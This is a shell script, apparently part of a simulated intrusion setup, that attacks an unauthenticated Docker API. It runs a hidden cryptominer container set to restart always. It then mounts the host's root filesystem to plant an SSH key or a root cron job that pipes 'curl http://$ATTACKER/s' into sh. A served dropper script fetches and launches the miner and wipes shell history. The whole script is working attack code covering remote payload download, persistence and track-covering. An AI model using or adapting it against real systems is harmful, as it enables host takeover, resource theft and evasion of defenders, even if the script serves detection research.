# On the attacker's machine, which has an address for each of the two intruders.
ip address add "$OTHER/32" dev eth0
serve pool python3 /run/payload/pool.py "$POOL"

api() { # ADDRESS METHOD PATH [CURL'S OPTIONS…]
    curl -fsS --interface "$1" -X "$2" "http://$SERVER:2375$3" "${@:4}"
}
import() { # ADDRESS FOLDER REPOSITORY [PROGRAM]
    local change=''
    [ -z "${4:-}" ] || change="&changes=ENTRYPOINT%20%5B%22$4%22%5D"
    tar -C "$2" -c . | api "$1" POST "/images/create?fromSrc=-&repo=$3&tag=latest$change" \
        -H 'Content-Type: application/x-tar' --data-binary @- >/dev/null
}
create() { # ADDRESS NAME JSON
    api "$1" POST "/containers/create?name=$2" -H 'Content-Type: application/json' -d "$3" |
        python3 -c 'import json, sys; print(json.load(sys.stdin)["Id"])'
}
root() { # FOLDER
    mkdir -p "$1/bin"
    cp /bin/busybox "$1/bin/"
    ln -s busybox "$1/bin/sh"
}

# The first: a container that mines, whenever the machine runs.
root /srv/first
cp /run/payload/miner "/srv/first/$MINER"
printf '#!/bin/sh\n./%s -o %s://%s:%s -u 44wallet -p x %s\n' "$MINER" "$STRATUM" "$OTHER" "$POOL" "$FEE" |
    install -m 755 /dev/stdin /srv/first/mac.sh
import "$OTHER" /srv/first "$IMAGE" /mac.sh
first=$(create "$OTHER" "$CONTAINER" "{\"Image\": \"$IMAGE\", \"StopSignal\": \"SIGKILL\",
    \"HostConfig\": {\"RestartPolicy\": {\"Name\": \"always\"}}}")
api "$OTHER" POST "/containers/$first/start"

# The second: a container that holds the machine's whole disk writes there, and goes.
mkdir -p /srv/drop
cp /run/payload/miner /srv/drop/m
cat >/srv/drop/s <<END
curl -fsS http://$ATTACKER/m -o $HIDDEN
chmod 755 $HIDDEN
pgrep -f $HIDDEN >/dev/null || $HIDDEN -B -o $STRATUM://$ATTACKER:$POOL -u 45wallet
rm -f $HISTORY
ln -s /dev/null $HISTORY
END
serve drop python3 -m http.server 80 --directory /srv/drop
wait_for 30 curl -fsS "http://$ATTACKER/s"
ssh-keygen -q -t ed25519 -N '' -C "$NET@$NET" -f /root/second
if [ "$BY" = key ]; then
    deed="mkdir -p /mnt/root/.ssh; echo $(cat /root/second.pub) >>/mnt/root/.ssh/authorized_keys"
else
    deed="echo '* * * * * root curl -fsSL http://$ATTACKER/s | sh' >/mnt$LINE"
fi
root /srv/second
import "$ATTACKER" /srv/second alpine
second=$(create "$ATTACKER" "$NET" "$(python3 -c 'import json, sys; print(json.dumps({
    "Image": "alpine", "Cmd": ["/bin/busybox", "sh", "-c", "PATH=/bin; busybox --install /bin; " + sys.argv[1]],
    "HostConfig": {"Binds": ["/:/mnt"]}}))' "$deed")")
api "$ATTACKER" POST "/containers/$second/start"
api "$ATTACKER" POST "/containers/$second/wait" >/dev/null
api "$ATTACKER" DELETE "/containers/$second"
api "$ATTACKER" DELETE /images/alpine >/dev/null
if [ "$BY" = key ]; then
    ssh -q -i /root/second -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "root@$SERVER" \
        "curl -fsSL http://$ATTACKER/s | sh"
fi
